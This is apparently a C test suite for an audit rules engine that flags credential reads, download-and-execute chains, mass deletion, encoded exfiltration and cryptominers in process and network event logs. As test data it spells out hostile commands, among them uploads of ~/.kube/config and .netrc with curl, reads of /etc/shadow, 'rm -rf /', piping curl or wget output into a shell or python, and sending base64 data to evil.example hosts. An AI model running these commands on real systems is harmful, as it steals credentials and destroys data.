/* SPDX-License-Identifier: Apache-2.0 */
#include "audit/event-rules-line.h"
#include "audit/event-rules.h"
#include "base/json.h"
#include "base/scope.h"
#include "base/str.h"
#include "base/test.h"

#include <stdarg.h>
#include <stdlib.h>
#include <time.h>

/* A run, and how often each rule has spoken. */
struct watched {
	struct rules *rules;
	uint64_t seq;
	unsigned hits[RULE_COUNT];
	char why[240];
};

static void watched_init(struct watched *run)
{
	enum rule_verdict verdicts[RULE_COUNT];

	for (int i = 0; i < RULE_COUNT; i++)
		verdicts[i] = RULE_FLAG;
	*run = (struct watched){.rules = rules_new(verdicts)};
	CHECK(run->rules);
}

static void watched_done(struct watched *run)
{
	rules_free(run->rules);
}
#define RUN(name)                                                                                  \
	cleanup_with(watched_done) struct watched name;                                            \
	watched_init(&name)

static void look(struct watched *run, struct buf *line)
{
	struct rule_hit hits[RULE_COUNT];
	size_t n = rules_look(run->rules, line->data, line->used, hits);

	for (size_t i = 0; i < n; i++) {
		run->hits[hits[i].rule]++;
		memcpy(run->why, hits[i].why, sizeof run->why);
		CHECK(hits[i].seq == run->seq - 1);
	}
}

static void begin(struct watched *run, struct json *json, const char *kind)
{
	json_open(json, NULL, '{');
	json_str(json, "prev", "0000000000000000000000000000000000000000000000000000000000000000");
	json_uint(json, "seq", run->seq++);
	json_str(json, "time", "2026-11-16T10:45:39.123456789Z");
	json_str(json, "run", "k3v7q2ma");
	json_uint(json, "step", 1);
	json_str(json, "kind", kind);
}

/* `words` is the command line, split at blanks; a tilde in a word stands for a blank. */
static void exec_line(struct watched *run, struct buf *out, int pid, int parent, const char *path,
		      const char *words, bool is_fresh)
{
	struct json json = {out};
	cleanup_free char *copy = strdup(words);
	char *next = copy, *word;

	begin(run, &json, "exec");
	json_int(&json, "pid", pid);
	json_int(&json, "parent", parent);
	json_str(&json, "program", "sh");
	json_str(&json, "path", path);
	json_open(&json, "argv", '[');
	while ((word = strsep(&next, " "))) {
		for (char *at = word; *at; at++)
			if (*at == '^')
				*at = ' ';
		json_str(&json, NULL, word);
	}
	json_close(&json, ']');
	json_uint(&json, "argc", 1);
	json_str(&json, "hash", "sha256:00");
	if (is_fresh)
		json_bool(&json, "fresh", true);
	json_close(&json, '}');
}

static void did(struct watched *run, int pid, int parent, const char *path, const char *words)
{
	cleanup_buf struct buf line = BUF_INIT(1 << 20);

	exec_line(run, &line, pid, parent, path, words, false);
	look(run, &line);
}

static void did_fresh(struct watched *run, int pid, int parent, const char *path)
{
	cleanup_buf struct buf line = BUF_INIT(1 << 20);

	exec_line(run, &line, pid, parent, path, path, true);
	look(run, &line);
}

static void was_refused(struct watched *run, const char *program, const char *action,
			const char *object)
{
	cleanup_buf struct buf line = BUF_INIT(1 << 20);
	struct json json = {&line};

	begin(run, &json, "denial");
	json_int(&json, "pid", 4);
	json_str(&json, "program", program);
	json_str(&json, "action", action);
	json_str(&json, "object", object);
	json_str(&json, "rule", "hidden");
	json_none(&json, "allow");
	json_uint(&json, "count", 1);
	json_close(&json, '}');
	look(run, &line);
}

static void talked(struct watched *run, int pid, const char *name, int port, const char *request)
{
	cleanup_buf struct buf line = BUF_INIT(1 << 20);
	struct json json = {&line};

	begin(run, &json, "connection");
	json_int(&json, "pid", pid);
	json_str(&json, "program", "curl");
	json_str(&json, "name", name);
	json_str(&json, "address", "192.0.2.1");
	json_uint(&json, "port", (uint64_t)port);
	json_str(&json, "verdict", "allowed");
	json_str(&json, "request", request);
	json_close(&json, '}');
	look(run, &line);
}

static void changed(struct watched *run, const char *path, const char *change)
{
	cleanup_buf struct buf line = BUF_INIT(1 << 20);
	struct json json = {&line};

	begin(run, &json, "change");
	json_str(&json, "path", path);
	json_str(&json, "change", change);
	json_str(&json, "type", "file");
	json_close(&json, '}');
	look(run, &line);
}

static unsigned total(const struct watched *run)
{
	unsigned sum = 0;

	for (int i = 0; i < RULE_COUNT; i++)
		sum += run->hits[i];
	return sum;
}

static void check_none(const struct watched *run)
{
	if (total(run))
		test_fail(__FILE__, __LINE__, "a hit: %s", run->why);
}

TEST(a_line_is_taken_apart_whatever_stands_in_it)
{
	static const char text[] =
		"{\"prev\":\"0\",\"seq\":7,\"step\":2,\"kind\":\"exec\",\"pid\":3,"
		"\"parent\":2,\"program\":\"a\\\"b\",\"path\":\"/x\\u00e9\\udcff\","
		"\"argv\":[\"a\",\"\\n\\\\\",\"\"],\"extra\":{\"path\":\"no\",\"l\":[1,\"]}\"]},"
		"\"fresh\":true}";
	static struct line line;

	CHECK(line_parse(text, sizeof text - 1, &line));
	CHECK(line.kind == LINE_EXEC && line.seq == 7 && line.step == 2);
	CHECK(line.pid == 3 && line.parent == 2 && line.is_fresh && line.argc == 3);
	CHECK_STR(line.program, "a\"b");
	CHECK_STR(line.path, "/x\xc3\xa9\xff");
	CHECK_STR(line.argv[1], "\n\\");
	CHECK_STR(line.argv[2], "");
	for (size_t i = 0; i < sizeof text - 1; i++)
		CHECK(!line_parse(text, i, &line));
	CHECK(!line_parse("{\"kind\":\"head\",\"size\":1}", 24, &line));
}

TEST(credentials_are_noticed_in_refusals_and_in_arguments)
{
	RUN(run);

	was_refused(&run, "python3", "read", "/root/.aws/credentials");
	was_refused(&run, "cat", "read", "/home/ada/.ssh/id_ed25519");
	was_refused(&run, "node", "read", "/srv/app/.env");
	did(&run, 5, 2, "/usr/bin/cat", "cat /root/.aws/credentials");
	CHECK_STR(run.why, "cat is given /root/.aws/credentials");
	did(&run, 6, 2, "/usr/bin/tar", "tar c /home/ada/.ssh");
	did(&run, 7, 2, "/usr/bin/curl", "curl -T /home/ada/.kube/config https://x.example");
	did(&run, 8, 2, "/usr/bin/curl", "curl -d @/root/.netrc^ https://x.example");
	did(&run, 9, 2, "/usr/bin/python3", "python3 -c print(open('/etc/shadow').read())");
	did(&run, 10, 2, "/usr/bin/cat", "cat /proc/1/environ");
	CHECK_INT(run.hits[RULE_CREDENTIALS], 8 + 0);
	CHECK_INT(total(&run), 8);
}

TEST(whoever_a_credential_belongs_to_may_name_it)
{
	RUN(run);

	was_refused(&run, "npm", "read", "/root/.npmrc");
	was_refused(&run, "git", "read", "/root/.git-credentials");
	was_refused(&run, "cat", "write", "/root/.aws/credentials");
	was_refused(&run, "cat", "read", "/root/.bashrc");
	did(&run, 5, 2, "/usr/bin/ssh", "ssh -i /root/.ssh/id_rsa host");
	did(&run, 6, 2, "/usr/bin/chmod", "chmod 600 /root/.ssh/id_rsa");
	did(&run, 7, 2, "/usr/bin/cat", "cat /root/.ssh/id_rsa.pub");
	did(&run, 8, 2, "/usr/bin/cat", "cat .npmrc package.json");
	did(&run, 9, 2, "/usr/bin/cat", "cat /srv/.npmrc /etc/passwd /proc/self/environ");
	did(&run, 10, 2, "/usr/bin/sh", "sh -c echo^/root/.aws/credentials");
	check_none(&run);
}

TEST(what_is_fetched_and_executed_is_noticed_in_each_form)
{
	RUN(run);

	did(&run, 5, 2, "/usr/bin/curl", "curl -fsSL https://x.example/install.sh");
	did(&run, 6, 2, "/usr/bin/bash", "bash -s -- -y");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 1);
	/* In a pipe nobody says who is executed first. */
	did(&run, 8, 3, "/usr/bin/python3.11", "python3 -");
	did(&run, 7, 3, "/usr/bin/wget", "wget -qO- https://x.example/get.py");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 2);
	did(&run, 20, 4, "/usr/bin/curl", "curl -fsSLo /tmp/tool https://x.example/tool-1.2");
	talked(&run, 20, "x.example", 443, "");
	did(&run, 21, 4, "/usr/bin/chmod", "chmod +x /tmp/tool");
	did(&run, 22, 4, "/tmp/tool", "/tmp/tool --now");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 3);
	did(&run, 30, 4, "/usr/bin/wget", "wget https://x.example/a/setup.sh?v=2");
	did(&run, 31, 4, "/usr/bin/sh", "sh -e ./setup.sh");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 4);
	did(&run, 40, 4, "/usr/bin/bash", "bash -c bash^<(curl^-s^https://x.example)");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 5);
	talked(&run, 50, "x.example", 443, "");
	did_fresh(&run, 51, 50, "/tmp/x1");
	CHECK_INT(run.hits[RULE_DOWNLOAD], 6);
	CHECK_INT(total(&run), 6);
}

TEST(what_is_only_fetched_or_only_made_is_none)
{
	RUN(run);

	did(&run, 5, 2, "/usr/bin/curl", "curl -s https://api.example/x.json");
	talked(&run, 5, "api.example", 443, "GET /x.json");
	did(&run, 6, 2, "/usr/bin/python3", "python3 -");
	did(&run, 7, 2, "/usr/bin/curl", "curl -O https://x.example/src-1.0.tar.gz");
	did(&run, 8, 2, "/usr/bin/tar", "tar xf src-1.0.tar.gz");
	did_fresh(&run, 9, 2, "/srv/src-1.0/configure");
	did_fresh(&run, 10, 9, "/srv/src-1.0/conftest");
	did_fresh(&run, 11, 9, "/tmp/test-program");
	talked(&run, 12, "proxy.golang.org", 443, "");
	did_fresh(&run, 13, 12, "/tmp/go-build123/b001/exe/main");
	did(&run, 14, 2, "/usr/bin/bash", "bash -c x=$(curl^-s^https://x.example)");
	did(&run, 15, 2, "/usr/bin/sh", "sh build.sh");
	check_none(&run);
}

TEST(much_that_is_removed_is_noticed_once)
{
	RUN(run);
	char path[64];

	for (int i = 0; i < 300; i++) {
		snprintf(path, sizeof path, "src/file-%d.c", i);
		changed(&run, path, "deleted");
	}
	CHECK_INT(run.hits[RULE_DELETION], 1);
	did(&run, 5, 2, "/usr/bin/rm", "rm -rf /");
	did(&run, 6, 2, "/usr/bin/rm", "rm -fr -- /home/ada");
	did(&run, 7, 2, "/usr/bin/rm", "rm --recursive ~/");
	did(&run, 8, 2, "/usr/bin/find", "find . -delete");
	did(&run, 9, 2, "/usr/bin/shred", "shred -u a b");
	CHECK_INT(run.hits[RULE_DELETION], 6);
	CHECK_INT(total(&run), 6);
}

TEST(a_tidy_up_and_a_change_of_branch_are_no_loss)
{
	RUN(run);
	char path[64];

	for (int i = 0; i < 1000; i++) {
		snprintf(path, sizeof path, "node_modules/a/%d.js", i);
		changed(&run, path, "deleted");
		snprintf(path, sizeof path, "src/new-%d.c", i);
		changed(&run, path, "added");
		snprintf(path, sizeof path, "src/old-%d.c", i);
		changed(&run, path, i % 2 ? "deleted" : "changed");
	}
	did(&run, 5, 2, "/usr/bin/rm", "rm -rf node_modules build /tmp/x");
	did(&run, 6, 2, "/usr/bin/rm", "rm -f *.o /home/ada/x");
	did(&run, 7, 2, "/usr/bin/find", "find . -name *.pyc -delete");
	check_none(&run);
}

/* Random enough, and the same each time. */
static void fill(char *out, size_t size, const char *alphabet)
{
	uint32_t state = 12345;

	for (size_t i = 0; i < size; i++) {
		state = state * 1664525 + 1013904223;
		out[i] = alphabet[(state >> 16) % strlen(alphabet)];
	}
	out[size] = '\0';
}

#define BASE64 "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

TEST(encoded_data_is_noticed_on_its_way_out)
{
	RUN(run);
	char data[401], text[600];

	fill(data, 400, BASE64);
	snprintf(text, sizeof text, "curl https://x.example/?d=%s", data);
	did(&run, 5, 2, "/usr/bin/curl", text);
	CHECK_INT(run.hits[RULE_ENCODED], 1);
	fill(data, 300, "0123456789abcdef");
	snprintf(text, sizeof text, "tool %s", data);
	did(&run, 6, 2, "/usr/bin/tool", text);
	CHECK_INT(run.hits[RULE_ENCODED], 1); /* to nobody */
	talked(&run, 5, "x.example", 443, "GET /");
	did(&run, 6, 2, "/usr/bin/tool", text);
	CHECK_INT(run.hits[RULE_ENCODED], 2);
	snprintf(text, sizeof text, "GET /?q=%s", data);
	talked(&run, 5, "x.example", 443, text);
	CHECK_INT(run.hits[RULE_ENCODED], 3);
	fill(data, 60, "0123456789abcdef");
	snprintf(text, sizeof text, "%s.t.x.example", data);
	talked(&run, 5, text, 53, "");
	CHECK_INT(run.hits[RULE_ENCODED], 4);
	for (int i = 0; i < 40; i++) {
		fill(data, 28, "0123456789abcdef");
		snprintf(text, sizeof text, "%s%02d.evil.example", data, i);
		talked(&run, 5, text, 443, "");
	}
	CHECK_INT(run.hits[RULE_ENCODED], 5);
	did(&run, 60, 3, "/usr/bin/base64", "base64 -w0 secrets");
	did(&run, 61, 3, "/usr/bin/curl", "curl -d @- https://x.example");
	CHECK_INT(run.hits[RULE_ENCODED], 6);
	did(&run, 70, 4, "/usr/bin/nc", "nc x.example 80");
	did(&run, 71, 4, "/usr/bin/openssl", "openssl enc -aes-256-cbc -in x");
	CHECK_INT(run.hits[RULE_ENCODED], 7);
	CHECK_INT(total(&run), 7);
}

TEST(hashes_paths_and_decoding_are_no_exfiltration)
{
	RUN(run);
	char data[401], text[600];

	fill(data, 128, "0123456789abcdef");
	snprintf(text, sizeof text, "check sha512:%s", data);
	did(&run, 5, 2, "/usr/bin/check", text);
	did(&run, 6, 2, "/usr/bin/cc",
	    "cc "
	    "-I/usr/lib/x86_64-linux-gnu/glib/include/a/very/long/path/to/some/header/files/that/"
	    "goes/on/and/on/for/quite/a/while/until/it/is/longer/than/two/hundred/characters/which/"
	    "is/"
	    "more/than/enough/for/the/rule/to/look/at/it/twice/and/find/nothing");
	did(&run, 7, 2, "/usr/bin/cc",
	    "cc -DVALUES=000000000000000000000000000000000000000000000000"
	    "0000000000000000000000000000000000000000000000000000000000000"
	    "000000000000000000000000000000000000000000000000000000000000");
	did(&run, 8, 3, "/usr/bin/curl", "curl -s https://x.example/x.b64");
	did(&run, 9, 3, "/usr/bin/base64", "base64 -d");
	did(&run, 10, 4, "/usr/bin/base64", "base64 image.png");
	did(&run, 11, 4, "/usr/bin/openssl", "openssl version");
	talked(&run, 5, "d111111abcdef8.cloudfront.net", 443, "GET /a/b.js");
	talked(&run, 5, "files.pythonhosted.org", 443,
	       "GET "
	       "/packages/3f/51/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/"
	       "x.whl");
	check_none(&run);
}

TEST(miners_are_known_by_name_by_address_and_by_pool)
{
	RUN(run);

	did(&run, 5, 2, "/tmp/xmrig", "./xmrig");
	did(&run, 6, 2, "/tmp/a", "a -o stratum+tcp://pool.example:3333 -u x");
	talked(&run, 6, "xmr-eu1.nanopool.org", 10343, "");
	talked(&run, 6, "pool.unknown.example", 3333, "");
	CHECK_INT(run.hits[RULE_MINER], 4);
	did(&run, 7, 2, "/usr/bin/determined", "determined --thread-pool 4");
	talked(&run, 6, "api.example", 3333, "");
	talked(&run, 6, "carpool.example", 443, "");
	talked(&run, 6, "notnanopool.org", 443, "");
	CHECK_INT(total(&run), 4);
}

TEST(an_ordinary_day_gives_no_hit)
{
	RUN(run);
	int pid = 10;

	/* npm install */
	did(&run, pid, 2, "/usr/bin/node", "npm install");
	was_refused(&run, "npm install", "read", "/root/.npmrc-not");
	was_refused(&run, "npm", "read", "/root/.npmrc");
	for (int i = 0; i < 50; i++)
		talked(&run, pid, "registry.npmjs.org", 443,
		       "GET /@types/node/-/node-20.11.30.tgz");
	did(&run, pid + 1, pid, "/usr/bin/sh", "sh -c node^install.js");
	did(&run, pid + 2, pid + 1, "/usr/bin/node", "node install.js");
	did_fresh(&run, pid + 3, pid + 2, "/srv/node_modules/esbuild/bin/esbuild");
	did_fresh(&run, pid + 4, pid + 2, "/srv/node_modules/.bin/node-gyp");
	/* configure and compile */
	did(&run, 30, 2, "/usr/bin/sh", "sh ./configure --prefix=/usr");
	did(&run, 31, 30, "/usr/bin/gcc", "gcc -O2 -o conftest conftest.c");
	did_fresh(&run, 32, 30, "/srv/conftest");
	did(&run, 33, 30, "/usr/bin/rm", "rm -rf conftest* conftest.dSYM");
	did(&run, 34, 2, "/usr/bin/make", "make -j4");
	did(&run, 35, 34, "/usr/bin/gcc", "gcc -MMD -Iinclude -DVERSION=\"1.2.3\" -c a.c -o a.o");
	/* pip */
	did(&run, 50, 2, "/usr/bin/python3", "python3 -m pip install requests");
	talked(&run, 50, "files.pythonhosted.org", 443, "GET /packages/f9/9b/requests-2.31.0.whl");
	did(&run, 51, 50, "/usr/bin/python3",
	    "python3 /usr/lib/python3/dist-packages/pip/_in_process.py get_requires /tmp/tmpabc");
	did_fresh(&run, 52, 51, "/tmp/pip-build-env-x/overlay/bin/ninja");
	/* git clone */
	did(&run, 60, 2, "/usr/bin/git", "git clone https://github.com/a/b");
	did(&run, 61, 60, "/usr/lib/git-core/git-remote-https",
	    "git-remote-https origin https://github.com/a/b");
	talked(&run, 61, "github.com", 443, "GET /a/b/info/refs?service=git-upload-pack");
	did(&run, 62, 60, "/usr/lib/git-core/git",
	    "git index-pack --stdin --fix-thin --keep=fetch-pack^62^on^host "
	    "--check-self-contained-and-connected");
	was_refused(&run, "git", "read", "/root/.netrc");
	check_none(&run);
}

TEST(a_rule_that_is_off_is_silent_and_a_loud_one_stops)
{
	enum rule_verdict verdicts[RULE_COUNT] = {RULE_OFF, RULE_FLAG};
	cleanup_with(watched_done) struct watched run = {.rules = rules_new(verdicts)};
	RUN(other);

	did(&run, 5, 2, "/usr/bin/cat", "cat /etc/shadow");
	CHECK_INT(total(&run), 0);
	for (int i = 0; i < 100; i++)
		did(&other, 5, 2, "/usr/bin/cat", "cat /etc/shadow");
	CHECK_INT(total(&other), RULE_HITS_MAX + 1);
}

TEST(names_and_verdicts_go_both_ways)
{
	for (int i = 0; i < RULE_COUNT; i++) {
		CHECK_INT(rule_find(rule_name((enum rule_id)i)), i);
		CHECK(rule_summary((enum rule_id)i)[0]);
	}
	for (int i = 0; i < RULE_VERDICTS; i++)
		CHECK_INT(rule_find_verdict(rule_verdict_word((enum rule_verdict)i)), i);
	CHECK_INT(rule_find("x"), -1);
	CHECK_INT(rule_find_verdict("x"), -1);
}

/* No assertion on time: it prints what an event costs, for whoever wants to know. */
TEST(an_event_costs_little)
{
	RUN(run);
	cleanup_buf struct buf line = BUF_INIT(1 << 20);
	struct rule_hit hits[RULE_COUNT];
	clock_t start;

	exec_line(&run, &line, 35, 34, "/usr/bin/gcc",
		  "gcc -O2 -g -Wall -Wextra -Iinclude -Isrc -DVERSION=\"1.2.3\" -MD -MF x.d -c "
		  "src/a/long-name.c -o build/src/a/long-name.o",
		  false);
	start = clock();
	for (int i = 0; i < 100000; i++)
		rules_look(run.rules, line.data, line.used, hits);
	printf("# %zu bytes, %.0f ns an event\n", line.used,
	       (double)(clock() - start) / CLOCKS_PER_SEC * 1e9 / 100000);
}
